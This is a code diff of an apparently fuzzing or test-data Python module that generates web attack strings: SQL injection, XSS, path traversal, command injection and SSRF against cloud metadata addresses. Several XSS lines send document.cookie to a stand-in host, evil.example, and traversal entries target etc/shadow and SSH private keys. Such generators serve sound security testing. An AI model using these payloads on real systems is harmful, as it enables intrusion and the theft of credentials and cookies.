@@ -11,9 +11,14 @@ from __future__ import annotations
 import random
 from collections.abc import Callable
 from pathlib import Path
+from typing import Final
 from urllib.parse import quote
 
 Rng = random.Random
+_HERE_WORDS: Final = (
+    "null 1 2 version() user() @@version 'a' 0x41 password database() concat(user,0x3a,pass) "
+    "char(97)"
+)
 HERE = Path(__file__).parent
 
 
@@ -86,8 +91,7 @@ def sql_tautology(rng: Rng) -> str:
 
 def sql_union(rng: Rng) -> str:
     count = rng.randrange(1, 8)
-    columns = [rng.choice(["null", "1", "2", "version()", "user()", "@@version", "'a'", "0x41",
-                           "password", "database()", "concat(user,0x3a,pass)", "char(97)"])
+    columns = [rng.choice(_HERE_WORDS.split())
                for _ in range(count)]  # fmt: skip
     source = rng.choice(
         ["", "", " from users", " from information_schema.tables", " from dual", " from mysql.user",
@@ -113,10 +117,10 @@ def sql_blind(rng: Rng) -> str:
         [
             f"ascii(substring({what},{{n}},1))>{{m}}", f"length({what})={{n}}",
             f"substr({what},{{n}},1)='a'", f"ord(mid({what},{{n}},1))<{{m}}",
-            f"(select count(*) from users)>{{n}}", "exists(select * from users)",
-            f"(select 1 from users where id={{n}})=1", f"left({what},{{n}})='r'",
+            "(select count(*) from users)>{n}", "exists(select * from users)",
+            "(select 1 from users where id={n})=1", f"left({what},{{n}})='r'",
             f"if({what} like 'a%',1,0)", f"(case when {what}='a' then 1 else 0 end)=1",
-            f"unicode(substring({what},{{n}},1))={{m}}", f"{{m}}=(select {{m}} from dual)",
+            f"unicode(substring({what},{{n}},1))={{m}}", "{m}=(select {m} from dual)",
         ]
     ).format(n=rng.randrange(1, 30), m=rng.randrange(32, 126))  # fmt: skip
     logic = rng.choice(["and", "or", "and", "&&"])
@@ -194,20 +198,30 @@ def xss_js(rng: Rng) -> str:
         [f"alert({arg})", f"confirm({arg})", f"prompt({arg})", f"eval('alert({arg or 1})')",
          f"window['alert']({arg})", "alert`1`", f"top.alert({arg})", f"(alert)({arg})",
          "document.location='//evil.example/?'+document.cookie", f"self['al'+'ert']({arg})",
-         "fetch('//evil.example/'+document.cookie)", f"[1].find(alert)", f"setTimeout('alert({arg or 2})')",
-         "import('//evil.example/x.js')", f"alert(String.fromCharCode(88,83,83))", f"print({arg or 1})"]
+         "fetch('//evil.example/'+document.cookie)", "[1].find(alert)", f"setTimeout('alert({arg or 2})')",
+         "import('//evil.example/x.js')", "alert(String.fromCharCode(88,83,83))", f"print({arg or 1})"]
     ).replace("''XSS''", "XSS").replace("('alert('XSS')')", "('alert(1)')")  # fmt: skip
 
 
-EVENTS = (
-    "onclick onerror onload onmouseover onfocus onblur ontoggle onstart onbegin onanimationend "
-    "onpointerdown onkeyup onwheel oncopy onresize onscroll onsubmit oninput onchange onmouseenter "
-    "ontransitionend onhashchange onpageshow onbeforeprint ondrag oncontextmenu oncanplay"
-).split()
-TAGS = (
-    "img svg body iframe video audio input details a div button select textarea marquee x b style "
-    "object embed form math p span h1 table xss custom-tag image object"
-).split()
+_EVENTS_WORDS: Final = (
+    "onclick onerror onload onmouseover onfocus onblur ontoggle onstart onbegin "
+    "onanimationend onpointerdown onkeyup onwheel oncopy onresize onscroll onsubmit oninput "
+    "onchange onmouseenter ontransitionend onhashchange onpageshow onbeforeprint ondrag "
+    "oncontextmenu oncanplay"
+)
+
+
+EVENTS = _EVENTS_WORDS.split()
+_TAGS_WORDS: Final = (
+    "img svg body iframe video audio input details a div button select textarea marquee x b "
+    "style object embed form math p span h1 table xss custom-tag image object"
+)
+_TAGS_WORDS_2: Final = (
+    "169.254.169.254 2852039166 0xa9fea9fe 0251.0376.0251.0376 [::1] 127.1 0x7f.1 2130706433 "
+    "127.0.0.1.nip.io metadata.google.internal [fd00:ec2::254] [::ffff:7f00:1] "
+    "10.1.2.3.xip.io 0.0.0.0"
+)
+TAGS = _TAGS_WORDS.split()
 
 
 def xss_handler(rng: Rng) -> str:
@@ -269,7 +283,12 @@ def path(rng: Rng) -> str:
     up = rng.choice(["../", "..\\", "..%2f", "%2e%2e/", "..%5c", "..%252f", "....//", "..%c0%af"])
     file = rng.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
                        "root/.ssh/id_rsa", "etc/hosts", "var/log/apache2/access.log", "WEB-INF/web.xml"])  # fmt: skip
-    return rng.choice(["", "", "/", "img/", "./"]) + up * rng.randrange(3, 10) + file + rng.choice(["", "", "%00", "%00.jpg"])
+    return (
+        rng.choice(["", "", "/", "img/", "./"])
+        + up * rng.randrange(3, 10)
+        + file
+        + rng.choice(["", "", "%00", "%00.jpg"])
+    )
 
 
 def command(rng: Rng) -> str:
@@ -279,15 +298,24 @@ def command(rng: Rng) -> str:
          "cat${IFS}/etc/passwd", "/bin/cat /etc/passwd", "nslookup evil.example", "netstat -an"]
     )  # fmt: skip
     lead = rng.choice(["", "1", "127.0.0.1", "x", "file.txt", "a@b.example"])
-    form = rng.choice(["{l};{c}", "{l}|{c}", "{l} && {c}", "{l}||{c}", "{l}; {c};", "{l} | {c}", "{l}$({c})", "{l}\n{c}"])
+    form = rng.choice(
+        [
+            "{l};{c}",
+            "{l}|{c}",
+            "{l} && {c}",
+            "{l}||{c}",
+            "{l}; {c};",
+            "{l} | {c}",
+            "{l}$({c})",
+            "{l}\n{c}",
+        ]
+    )
     return form.format(l=lead, c=what)
 
 
 def ssrf(rng: Rng) -> str:
     host = rng.choice(
-        ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::1]", "127.1",
-         "0x7f.1", "2130706433", "127.0.0.1.nip.io", "metadata.google.internal", "[fd00:ec2::254]",
-         "[::ffff:7f00:1]", "10.1.2.3.xip.io", "0.0.0.0"]
+        _TAGS_WORDS_2.split()
     )  # fmt: skip
     scheme = rng.choice(["http://", "https://", "http://", "HTTP://", "http://x@"])
     return scheme + host + rng.choice(["/", "", "/latest/meta-data/", ":80/", "/admin"])
